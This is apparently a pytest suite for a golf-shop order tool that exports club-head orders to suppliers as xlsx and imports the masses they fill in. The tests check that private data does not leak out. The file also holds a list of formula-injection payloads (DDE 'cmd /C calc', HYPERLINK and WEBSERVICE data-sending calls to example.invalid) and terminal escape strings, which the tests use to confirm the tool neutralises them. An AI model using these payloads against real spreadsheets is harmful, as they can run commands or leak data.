"""What leaves the shop and what comes back: nothing private out, nothing but masses in."""

import datetime
import io
import random
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result
from openpyxl.comments import Comment
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from calc_office import Calc
from evenheft.cli import main
from evenheft.formulas import REGISTRY
from evenheft.formulas.calling import call
from evenheft.hosts.embedded import Computed
from evenheft.ooxml.places import column_letter
from evenheft.order.demo import build_demo
from evenheft.order.drawing.template import save_bytes
from evenheft.order.layout import BENCH, FIRST_ROW, ORDER, PARTS, SUPPLIER
from evenheft.order.supplier import book as supplier_book
from evenheft.order.supplier.book import AT, COLUMNS, FIRST, HEADS_HEADING_ROW, HEADS_SHEET
from evenheft.order.supplier.out import SHARED, HeadsOrder, Wanted
from other_programs import have_soffice, read_part, soffice_convert
from untouched import changed_parts

CUSTOMER, PRICE, PLACE = "Zyxwander Quillfeather", "98765.43", "C:\\Clients\\Quillfeather\\order.xlsx"
ROW = FIRST_ROW + 2  # the 6-iron

# https://owasp.org/www-community/attacks/CSV_Injection: what a spreadsheet may take for a formula
INJECTIONS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "=cmd|'/C calc'!A0", "|cmd",
    '=HYPERLINK("http://example.invalid?x="&A1,"click")', '=WEBSERVICE("http://example.invalid")', "＝1+1",
    "＋1", "－1",    "＠SUM(1)", '"=1+1', "';=1+1", "=DDE(\"cmd\";\"/C calc\";\"a\")",
)  # fmt: skip


@pytest.fixture
def book() -> openpyxl.Workbook:
    return build_demo()


@pytest.fixture
def saved(tmp_path: Path) -> Callable[[openpyxl.Workbook], Path]:
    def save(book: openpyxl.Workbook) -> Path:
        path = tmp_path / "order.xlsx"
        path.write_bytes(save_bytes(book))
        return path

    return save


def run(*words: object) -> Result:
    return CliRunner().invoke(main, [*map(str, words)], catch_exceptions=False)


def shared(order: Path, to: str = "heads.xlsx") -> Path:
    path = order.with_name(to)
    said = run("share", order, "--for", "supplier", "-o", path)
    assert said.exit_code == 0, said.stderr
    return path


def refused(*words: object) -> str:
    said = run(*words)
    assert said.exit_code == 2
    assert said.stderr.startswith("! ")
    assert said.stderr.count("\n") == 1
    return said.stderr


def place(name: str, book: openpyxl.Workbook) -> str:
    return book.defined_names[name].attr_text.split("!")[1].replace("$", "")


def test_only_the_allowed_columns_leave(book: openpyxl.Workbook, saved: Callable) -> None:
    book["Supplier"].cell(ROW, SUPPLIER.at["note"]).value = "raw finish please"
    path = shared(saved(book))
    sheets = openpyxl.load_workbook(path).worksheets
    assert [sheet.title for sheet in sheets] == [HEADS_SHEET]
    rows = {row[0].value: [cell.value for cell in row] for row in sheets[0].iter_rows(min_row=FIRST)}
    assert sorted(rows) == list(range(2, 10))
    assert rows[3][:9] == [3, "6-iron", "Iron set A", 1, 29.5, 61.5, 262.4, 2, "raw finish please"]
    assert [column.key for column in COLUMNS if not column.fill_in and column.key != "check"] == [
        "mass" if key == "wanted" else key for key in SHARED
    ]


def test_a_name_a_price_and_a_path_planted_in_the_order_are_nowhere_in_the_suppliers_file(
    book: openpyxl.Workbook, tmp_path: Path
) -> None:
    plant = f"{CUSTOMER} pays {PRICE}, see {PLACE}"
    order, bench, parts, supplier = (book[name] for name in ("Order", "Bench", "Parts", "Supplier"))
    for sheet in book.worksheets:
        sheet.protection.sheet = False
    order[place("order_customer", book)].value = CUSTOMER  # 1 the customer's cell
    order[place("order_note", book)].value = plant  # 2 the order's note
    order[place("order_builder", book)].value = plant  # 3 the builder
    bench.cell(ROW, BENCH.at["note"]).value = plant  # 4 a bench note
    order["Z40"].value = plant  # 5 a free cell
    order["Z41"].value = float(PRICE)
    away = book.create_sheet(f"{CUSTOMER[:20]} price")  # 6 a hidden sheet, its name and its cells
    away.sheet_state = "hidden"
    away["A1"].value = plant
    supplier["Z8"].value = plant  # 7 a hidden column of the very sheet that is shared
    supplier.column_dimensions["Z"].hidden = True
    supplier.cell(ROW, SUPPLIER.at["wanted"]).comment = Comment(plant, CUSTOMER)  # 8 a comment and its author
    book.defined_names["client"] = DefinedName("client", attr_text=f'"{CUSTOMER}"')  # 9 a defined name
    book.properties.creator = book.properties.title = book.properties.keywords = plant  # 10 document properties
    book.properties.lastModifiedBy = book.properties.description = CUSTOMER
    book.custom_doc_props.append(StringProperty(name="client", value=plant))
    supplier.oddHeader.center.text = CUSTOMER  # 11 a page header
    prompt = DataValidation(prompt=plant[:200], promptTitle=CUSTOMER[:30])  # 12 an input message
    prompt.add(supplier.cell(ROW, SUPPLIER.at["model"]).coordinate)
    supplier.add_data_validation(prompt)
    supplier.cell(ROW, SUPPLIER.at["wanted"]).number_format = f'0.0 "{CUSTOMER}"'  # 13 a number's format
    supplier.cell(ROW, SUPPLIER.at["tolerance"]).hyperlink = f"file:///{PLACE}"  # 14 a link's target
    supplier.cell(ROW, SUPPLIER.at["remark"]).value = plant  # 15 a column that does not leave
    supplier.cell(FIRST_ROW + 4, SUPPLIER.at["note"]).value = plant  # 16 a hidden row
    supplier.row_dimensions[FIRST_ROW + 4].hidden = True
    parts["Z9"].value = plant  # 17 another sheet
    path = tmp_path / f"{CUSTOMER}.xlsx"  # 18 the order's own name
    path.write_bytes(save_bytes(book))
    with zipfile.ZipFile(path) as package:
        # They are planted; texts of several sheets stand in one part, each different one once.
        assert sum(package.read(name).count(CUSTOMER.encode()) for name in package.namelist()) >= 12

    said = run("share", path, "--for", "supplier")
    assert said.exit_code == 0, said.stderr
    sent = tmp_path / "heads-DEMO-1.xlsx"
    words = [*CUSTOMER.split(), PRICE, "98765", "Clients", "order.xlsx", "Invented", str(tmp_path), "client"]
    with zipfile.ZipFile(sent) as package:
        for name in package.namelist():
            content = package.read(name) + name.encode()
            for word in words:
                for coded in (word.encode(), word.encode("utf-16-le"), word.encode("utf-16-be")):
                    assert coded.lower() not in content.lower(), (name, word)
        assert not [name for name in package.namelist() if "omment" in name or "custom" in name]
    assert [row[0].value for row in openpyxl.load_workbook(sent)[HEADS_SHEET].iter_rows(min_row=FIRST)] == [
        2,
        3,
        4,
        6,
        7,
        8,
        9,
    ]


@pytest.mark.parametrize(
    ("key", "text", "words"),
    [
        ("note", f"for {CUSTOMER.upper()}", "names the customer"),
        ("note", f"see {PLACE}", "a place on a computer"),
        ("note", "see \\\\server\\orders", "a place on a computer"),
        ("note", "see /home/shop/order.xlsx", "a place on a computer"),
        ("note", "see file:order.xlsx", "a place on a computer"),
    ],
)
def test_private_words_in_a_column_that_leaves_are_refused(
    book: openpyxl.Workbook, saved: Callable, key: str, text: str, words: str
) -> None:
    book["Order"][place("order_customer", book)].value = CUSTOMER
    book["Supplier"].cell(ROW, SUPPLIER.at[key]).value = text
    path = saved(book)
    assert words in refused("share", path, "--for", "supplier")
    assert [p.name for p in path.parent.iterdir()] == ["order.xlsx"]


def test_a_word_of_the_customers_name_is_told_to_be_looked_at(book: openpyxl.Workbook, saved: Callable) -> None:
    book["Order"][place("order_customer", book)].value = "Ann Iron"
    book["Supplier"].cell(ROW, SUPPLIER.at["note"]).value = "raw 1/2 deg upright, like the iron set of May"
    said = run("share", saved(book), "--for", "supplier")
    assert said.exit_code == 0
    assert "the note for club 3 holds a word of the customer's name" in said.stderr


def test_what_share_cannot_do_is_one_line(book: openpyxl.Workbook, saved: Callable, tmp_path: Path) -> None:
    path = saved(book)
    assert "say what is to be shared" in refused("share", path)
    assert "must end in .xlsx" in refused("share", path, "--for", "supplier", "-o", tmp_path / "heads.pdf")
    shared(path)
    assert "there already" in refused("share", path, "--for", "supplier", "-o", tmp_path / "heads.xlsx")
    supplier = book["Supplier"]
    supplier.cell(ROW, SUPPLIER.at["wanted"]).value = 27
    supplier.cell(ROW + 1, SUPPLIER.at["tolerance"]).value = None
    supplier.cell(ROW + 2, SUPPLIER.at["loft"]).value = "strong"
    line = refused("share", saved(book), "--for", "supplier")
    assert "club 3 (6-iron): head mass wanted must be from 100 g to 650 g, got 27" in line
    assert "club 4 (7-iron) has no plus or minus" in line
    assert "club 5 (8-iron): loft must be a number, got strong" in line
    for row in range(FIRST_ROW, FIRST_ROW + 18):
        supplier.cell(row, SUPPLIER.at["wanted"]).value = None
    assert "asks for no head" in refused("share", saved(book), "--for", "supplier")
    supplier.sheet_state = "hidden"
    assert "hides its Supplier sheet" in refused("share", saved(book), "--for", "supplier")
    book["Order"][place("order_number", book)].value = None
    assert "has no order number" in refused("share", saved(book), "--for", "supplier")
    assert "not an Evenheft order" in refused("share", tmp_path / "heads.xlsx", "--for", "supplier")


def test_a_moved_column_is_noticed_before_anything_leaves(book: openpyxl.Workbook, saved: Callable) -> None:
    book["Supplier"].cell(HEADS_HEADING_ROW + 1, SUPPLIER.at["note"]).value = "Price"
    line = refused("share", saved(book), "--for", "supplier")
    assert 'should say "Note to supplier"' in line
    assert "columns were moved" in line


def test_an_order_in_ounces_is_sent_in_grams_and_comes_back_in_ounces(book: openpyxl.Workbook, saved: Callable) -> None:
    book["Shop"][place("shop_units", book)].value = "oz in"
    for row in range(FIRST_ROW, FIRST_ROW + 18):
        for key in ("wanted", "tolerance"):
            book["Supplier"].cell(row, SUPPLIER.at[key]).value = None
    book["Supplier"].cell(ROW, SUPPLIER.at["wanted"]).value = 9.5
    book["Supplier"].cell(ROW, SUPPLIER.at["tolerance"]).value = "2 g"
    order = saved(book)
    path = shared(order)
    filled = openpyxl.load_workbook(path)
    assert filled[HEADS_SHEET].cell(FIRST, AT["mass"]).value == pytest.approx(9.5 * 28.349523125)
    filled[HEADS_SHEET].cell(FIRST, AT["actual"]).value = 270
    filled.save(path)
    assert run("receive", order, path).exit_code == 0
    received = openpyxl.load_workbook(order.with_name("order-received.xlsx"))["Supplier"]
    assert received.cell(ROW, SUPPLIER.at["received"]).value == pytest.approx(270 / 28.349523125)


def test_text_that_looks_like_a_formula_stays_text_on_its_way_out(
    book: openpyxl.Workbook, saved: Callable, tmp_path: Path
) -> None:
    def put(sheet: str, row: int, column: int, text: str) -> None:
        cell = book[sheet].cell(row, column)
        cell.value = text
        cell.data_type = "s"

    supplier = book["Supplier"]
    for n, text in enumerate(INJECTIONS):
        row = FIRST_ROW + n
        put("Order", row, ORDER.at["club"], f"{text} c{n}")
        put("Parts", row, PARTS.at["model"], text)
        put("Supplier", row, SUPPLIER.at["note"], text)
        supplier.cell(row, SUPPLIER.at["wanted"]).value = 270
        supplier.cell(row, SUPPLIER.at["tolerance"]).value = 2
    path = shared(saved(book))
    sheet = openpyxl.load_workbook(path)[HEADS_SHEET]
    for n, text in enumerate(INJECTIONS):
        for key in ("club", "model", "note"):
            cell = sheet.cell(FIRST + n, AT[key])
            assert cell.data_type == "s"
            assert cell.value.startswith(" ".join(text.split()))
            assert cell.quotePrefix == (cell.value[0] in "=+-@|＝＋－＠")
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert {cell.column for cell in formulas} == {AT["check"], AT["mass"]}  # the checks, and the line that counts them
    if have_soffice():
        shown = soffice_convert(path, "csv", tmp_path).read_text(encoding="utf-8")
        for text in INJECTIONS:
            assert " ".join(text.split()).replace('"', '""') in shown


def filled(path: Path, cells: dict[tuple[str, int], object], to: str = "back.xlsx") -> Path:
    """The supplier's file with cells filled in by another library, as texts and numbers."""
    target = path.with_name(to)
    book = openpyxl.load_workbook(path)
    for (key, row), value in cells.items():
        cell = book[HEADS_SHEET].cell(row, AT[key])
        cell.value = value
        if isinstance(value, str):
            cell.data_type = "s"
    book.save(target)
    return target


def test_text_that_looks_like_a_formula_stays_out_on_its_way_in(book: openpyxl.Workbook, saved: Callable) -> None:
    order = saved(book)
    path = shared(order)
    for n in range(0, len(INJECTIONS), 7):
        texts = INJECTIONS[n : n + 7]
        cells = {(key, FIRST + at): text for at, text in enumerate(texts) for key in ("actual", "remark")}
        new = order.with_name(f"new{n}.xlsx")
        said = run("receive", order, filled(path, cells | {("actual", FIRST + 7): 319}, f"b{n}.xlsx"), "-o", new)
        assert said.exit_code == 3
        written = openpyxl.load_workbook(new)["Supplier"]
        for at in range(7):
            assert written.cell(ROW - 1 + at, SUPPLIER.at["received"]).value is None
            assert written.cell(ROW - 1 + at, SUPPLIER.at["remark"]).value is None
        assert written.cell(ROW + 6, SUPPLIER.at["received"]).value == 319


def test_formulas_and_links_that_came_in_are_not_taken(book: openpyxl.Workbook, saved: Callable) -> None:
    order = saved(book)
    path = shared(order)
    back = openpyxl.load_workbook(path)
    back[HEADS_SHEET].cell(FIRST, AT["actual"]).value = "=267+0.1"
    back.save(path)
    said = run("receive", order, path, "--show")
    assert "the mass is a formula, which is not taken" in said.output


@pytest.mark.parametrize("number", ["1e999", "-1e999", "nan", "inf"])
def test_a_number_that_no_sheet_can_hold_is_told(number: str, book: openpyxl.Workbook, saved: Callable) -> None:
    order = saved(book)
    sent = shared(order)
    mass, club, remark = f"{column_letter(AT['actual'])}{FIRST}", f"A{FIRST}", f"{column_letter(AT['remark'])}{FIRST}"

    def came(*cells: str) -> Path:
        back = sent.with_name("back.xlsx")
        with zipfile.ZipFile(sent) as source, zipfile.ZipFile(back, "w") as copy:
            for info in source.infolist():
                data = source.read(info).decode()
                for cell in cells if info.filename == "xl/worksheets/sheet1.xml" else ():
                    data, count = re.subn(
                        rf'<c r="{cell}"[^>]*?(?:/>|>.*?</c>)', f'<c r="{cell}"><v>{number}</v></c>', data, count=1
                    )
                    assert count == 1
                copy.writestr(info, data)
        return back

    result = run("receive", order, came(mass, remark), "--show")
    assert result.exit_code == 3
    assert f"got {number}" in result.output
    assert refused("receive", order, came(club)).startswith("! back.xlsx holds club 0 ")


def test_a_terminal_obeys_nothing_that_came_in(book: openpyxl.Workbook, saved: Callable) -> None:
    order = saved(book)
    package = shared(order)
    back = package.with_name("back.xlsx")
    escape = "\x1b]0;owned\x07\x1b[2J\u202e"
    with (
        zipfile.ZipFile(filled(package, {("remark", FIRST): "MARKED"}, "b.xlsx")) as old,
        zipfile.ZipFile(back, "w") as new,
    ):
        for name in old.namelist():
            coded = escape.replace("\x1b", "_x001B_").replace("\x07", "_x0007_")
            new.writestr(name, old.read(name).replace(b"MARKED", f"MARKED{coded}".encode()))
    said = run("receive", order, back, "--show")
    assert "MARKED" in said.output
    assert not set("\x1b\x07\u202e") & set(said.output + said.stderr)


def test_masses_are_received_and_twice_changes_nothing(book: openpyxl.Workbook, saved: Callable) -> None:
    order = saved(book)
    old = order.read_bytes()
    masses = {FIRST + n: mass for n, mass in enumerate([258.9, 262.5, "274,0", "281 g", 295.6, 291, 299, 306])}
    back = filled(shared(order), {("actual", row): mass for row, mass in masses.items()} | {("remark", FIRST): "raw"})
    assert "8 masses would change" in run("receive", order, back, "--show").output
    said = run("receive", order, back)
    assert said.exit_code == 3  # one is high
    assert re.search(r"6 9-iron.*high", said.output)
    assert "raw" in said.output
    assert order.read_bytes() == old
    new = order.with_name("order-received.xlsx")
    computed = Computed.open(new)
    rows = range(FIRST_ROW + 1, FIRST_ROW + 9)
    received = [computed.value("Supplier", row, SUPPLIER.at["received"]) for row in rows]
    assert received == [258.9, 262.5, 274.0, 281, 295.6, 291, 299, 306]
    verdicts = [computed.value("Supplier", row, SUPPLIER.at["verdict"]) for row in rows]
    assert verdicts == ["in", "in", "in", "in", "high", "in", "in", "in"]
    shown = openpyxl.load_workbook(new, data_only=True)["Supplier"]
    assert [shown.cell(row, SUPPLIER.at["verdict"]).value for row in rows] == verdicts
    stamp = new.read_bytes()
    again = run("receive", new, back)
    assert "nothing is written" in again.output
    assert again.exit_code == 3
    assert new.read_bytes() == stamp
    assert not new.with_name("order-received-received.xlsx").exists()


def test_receiving_touches_the_received_column_and_results_only(book: openpyxl.Workbook, saved: Callable) -> None:
    order = saved(book)
    run("check", order, "--save")
    back = filled(shared(order), {("actual", FIRST): 266.0})
    run("receive", order, back)
    new = order.with_name("order-received.xlsx")
    assert all(part.startswith("xl/worksheets/") for part in changed_parts(order, new))
    before, after = openpyxl.load_workbook(order), openpyxl.load_workbook(new)
    differing = {
        (sheet.title, cell.coordinate)
        for sheet in after.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value != before[sheet.title][cell.coordinate].value
    }
    assert differing == {("Supplier", f"{SUPPLIER.letter('received')}{ROW - 1}")}


def test_another_orders_file_or_a_changed_one_is_refused(book: openpyxl.Workbook, saved: Callable) -> None:
    order = saved(book)
    path = shared(order)
    sheet_of = openpyxl.load_workbook(path)

    def changed(change: Callable[[openpyxl.worksheet.worksheet.Worksheet], object]) -> Path:
        book = openpyxl.load_workbook(path)
        change(book[HEADS_SHEET])
        target = path.with_name("changed.xlsx")
        book.save(target)
        return target

    def put(at: str, value: object) -> Callable[[openpyxl.worksheet.worksheet.Worksheet], None]:
        return lambda sheet: setattr(sheet[at], "value", value)

    assert sheet_of[HEADS_SHEET]["A8"].value == 3
    for change, words in [
        (put("C3", "DEMO-2"), "answers order DEMO-2, but order.xlsx is order DEMO-1"),
        (put("B7", "Driver"), 'calls club 2 "Driver", but it is "5-iron"'),
        (put("A7", 1), "holds club 1 (5-iron), which order.xlsx does not ask for"),
        (put("A8", 2), "holds club 2 twice"),
        (put("J6", "Mass"), 'J6 should say "Actual mass (g)" and says "Mass"'),
        (put("A4", "something"), "its layout was changed"),
        (put("A4", "evenheft heads 9"), "another version"),
        (lambda sheet: sheet.insert_cols(3), "layout was changed"),
        (lambda sheet: sheet.delete_rows(2), "layout was changed"),
        (lambda sheet: setattr(sheet, "title", "Mine"), 'it has no sheet "Heads"'),
    ]:
        assert words in refused("receive", order, changed(change))
    assert 'no sheet "Heads"' in refused("receive", order, order)
    assert "there is no such file" in refused("receive", order, path.with_name("gone.xlsx"))
    assert [p.name for p in path.parent.glob("*received*")] == []


def test_rows_may_come_back_sorted_and_some_missing(book: openpyxl.Workbook, saved: Callable) -> None:
    order = saved(book)
    back = openpyxl.load_workbook(shared(order))
    sheet = back[HEADS_SHEET]
    for column in range(1, 10):
        first, second = sheet.cell(FIRST, column), sheet.cell(FIRST + 1, column)
        first.value, second.value = second.value, first.value
    sheet.cell(FIRST, AT["actual"]).value = 270.5
    sheet.delete_rows(FIRST + 7)
    back.save(order.with_name("back.xlsx"))
    said = run("receive", order, order.with_name("back.xlsx"))
    assert said.exit_code == 3
    assert "its row is missing" in said.output
    received = openpyxl.load_workbook(order.with_name("order-received.xlsx"))["Supplier"]
    assert received.cell(ROW, SUPPLIER.at["received"]).value == 270.5


def test_a_wanted_mass_changed_by_the_supplier_is_told_and_the_orders_counts(
    book: openpyxl.Workbook, saved: Callable
) -> None:
    order = saved(book)
    back = filled(shared(order), {("mass", FIRST): 280, ("actual", FIRST): 280})
    said = run("receive", order, back, "--show")
    assert re.search(r"2 5-iron.*high.*has been changed since it was sent", said.output)


def random_heads(count: int) -> tuple[HeadsOrder, list[float]]:
    """Heads and actual masses, many of them on the very edge of the tolerance."""
    chance = random.Random(6)
    heads, actual = [], []
    for n in range(count):
        wanted = round(chance.uniform(180, 330), chance.choice([0, 1, 1, 2]))
        tolerance = round(chance.choice([0.5, 1, 1.5, 2, chance.uniform(0, 3)]), 1)
        off = chance.choice([tolerance, -tolerance, chance.uniform(-2, 2) * tolerance, chance.gauss(0, 2)])
        heads.append(Wanted(n + 1, f"c{n}", "", 1, None, None, wanted, tolerance, ""))
        actual.append(chance.choice([round(wanted + off, 1), wanted + off]))
    return HeadsOrder("1", tuple(heads)), actual


def test_the_suppliers_check_says_what_heft_verdict_says(tmp_path: Path) -> None:
    order, actual = random_heads(1000)
    book = openpyxl.load_workbook(io.BytesIO(supplier_book.build(order)))
    for row, mass in enumerate(actual, start=FIRST):
        book[HEADS_SHEET].cell(row, AT["actual"]).value = mass
    path = tmp_path / "thousand.xlsx"
    book.save(path)
    said = [call(REGISTRY["HEFT_VERDICT"], [m, h.mass, h.tolerance]) for m, h in zip(actual, order.heads, strict=True)]
    assert {word: said.count(word) for word in set(said)}.keys() == {"in", "low", "high"}
    computed = Computed.open(path)
    assert [computed.value(HEADS_SHEET, row, AT["check"]) for row in range(FIRST, FIRST + 1000)] == said
    if have_soffice():  # a spreadsheet program must agree with the engine
        shown = openpyxl.load_workbook(soffice_convert(path, "xlsx", tmp_path), data_only=True)[HEADS_SHEET]
        assert [shown.cell(row, AT["check"]).value for row in range(FIRST, FIRST + 1000)] == said


def test_an_order_goes_out_is_filled_in_by_libreoffice_and_is_received(
    book: openpyxl.Workbook, saved: Callable, bare_calc: Calc
) -> None:
    order = saved(book)
    sent = shared(order)
    letters = {key: openpyxl.utils.get_column_letter(at) for key, at in AT.items()}
    with bare_calc.open(sent) as heads:
        for n, text in enumerate(["260.0", "265.4", "272.7", "two", "293.0", "292.9", "300.5"]):
            heads.type(HEADS_SHEET, f"{letters['actual']}{FIRST + n}", text)
        heads.type(HEADS_SHEET, f"{letters['remark']}{FIRST}", "from the new batch")
        heads.type(HEADS_SHEET, f"{letters['remark']}{FIRST + 1}", "=1+1")
        said = [row[0] for row in heads.shown(HEADS_SHEET, f"{letters['check']}{FIRST}:{letters['check']}{FIRST + 7}")]
        assert said == ["in", "high", "in", supplier_book.NO_NUMBER, "in", "in", "in", ""]
        assert heads.shown(HEADS_SHEET, "G4") == [["5 of 8 in, 2 to look at"]]
        assert heads.protected(HEADS_SHEET, f"{letters['mass']}{FIRST}")
        assert not heads.protected(HEADS_SHEET, f"{letters['actual']}{FIRST}")
        back = heads.save("filled in.xlsx")
    received = run("receive", order, back)
    assert received.exit_code == 3
    assert "from the new batch" in received.output
    new = order.with_name("order-received.xlsx")
    computed = Computed.open(new)
    rows = range(FIRST_ROW + 1, FIRST_ROW + 9)
    masses = [computed.value("Supplier", row, SUPPLIER.at["received"]) for row in rows]
    assert masses == [260.0, 265.4, 272.7, None, 293.0, 292.9, 300.5, None]
    verdicts = [computed.value("Supplier", row, SUPPLIER.at["verdict"]) for row in rows]
    assert verdicts == ["in", "high", "in", "", "in", "in", "in", ""]
    assert "nothing is written" in run("receive", new, back).output


def test_the_suppliers_file_tells_no_time_and_no_maker_of_the_order(book: openpyxl.Workbook, saved: Callable) -> None:
    book.properties.created = datetime.datetime(1999, 1, 2)
    first = shared(saved(book)).read_bytes()
    assert shared(saved(book), "again.xlsx").read_bytes() == first
    assert b"1999" not in read_part(io.BytesIO(first), "docProps/core.xml")
